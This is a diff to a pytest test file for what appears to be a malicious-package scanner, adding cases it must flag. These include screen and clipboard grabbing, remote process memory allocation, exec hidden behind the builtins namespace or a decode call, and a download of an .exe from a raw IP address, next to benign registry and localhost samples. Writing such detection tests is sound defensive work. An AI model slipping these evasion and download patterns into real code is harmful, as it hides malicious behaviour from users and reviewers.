@@ -235,6 +235,33 @@ MORE_TECHNIQUES = (
     ),
 )
 
+CAPABILITIES = (
+    Technique("screen-capture", "from PIL import ImageGrab\nImageGrab.grab()\n", Severity.MEDIUM),
+    Technique("clipboard", "import pyperclip\ntext = pyperclip.paste()\n", Severity.MEDIUM),
+    Technique(
+        "native-process-memory",
+        "import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAllocEx(0, 0, 1, 0, 0)\n",
+        Severity.MEDIUM,
+    ),
+    Technique(
+        "unreadable-runtime", "from pyarmor_runtime_000000 import __pyarmor__\n", Severity.MEDIUM
+    ),
+    Technique(
+        "exec-through-builtins-namespace",
+        "vars(__builtins__)['exec'](\"print('hello')\")\n",
+        Severity.MEDIUM,
+    ),
+    Technique(
+        "server-named-by-raw-address",
+        "import urllib3\nreq = urllib3.Request('https://192.0.2.7/a.exe')\n",
+        Severity.MEDIUM,
+    ),
+    Technique(
+        "exec-of-unknown-transform", "from helpers import decode\nexec(decode('aGk='))\n",
+        Severity.MEDIUM,
+    ),
+)
+
 ORDINARY = (
     Technique(
         "compiler-probe-in-temp-folder",
@@ -276,6 +303,16 @@ ORDINARY = (
         files={"tools/generate.py": "open('demo/gen.py', 'w').write('X = 1')\n"},
     ),
     Technique(
+        "local-test-server-address",
+        "TEST_URL = 'http://127.0.0.1:8080/'\nDOCS = 'https://docs.python.org/3/'\n",
+    ),
+    Technique(
+        "windows-registry-read-for-compiler",
+        "import winreg\n"
+        "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\VisualStudio')\n"
+        "path = winreg.QueryValueEx(key, 'InstallDir')\n",
+    ),
+    Technique(
         "pth-file-built-into-the-tree",
         "with open('a1_demo.pth', 'w') as pth:\n    pth.write('import demo_start')\n",
     ),
@@ -302,7 +339,9 @@ def _scan(technique: Technique, tmp_path: Path) -> list[Finding]:
     return scan_path(make_sdist(tmp_path, "demo", "1.0", files))
 
 
-@pytest.mark.parametrize("technique", TECHNIQUES + MORE_TECHNIQUES, ids=lambda t: t.name)
+@pytest.mark.parametrize(
+    "technique", TECHNIQUES + MORE_TECHNIQUES + CAPABILITIES, ids=lambda t: t.name
+)
 def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
     findings = _scan(technique, tmp_path)
     worst = max((f.severity for f in findings), default=Severity.INFO)
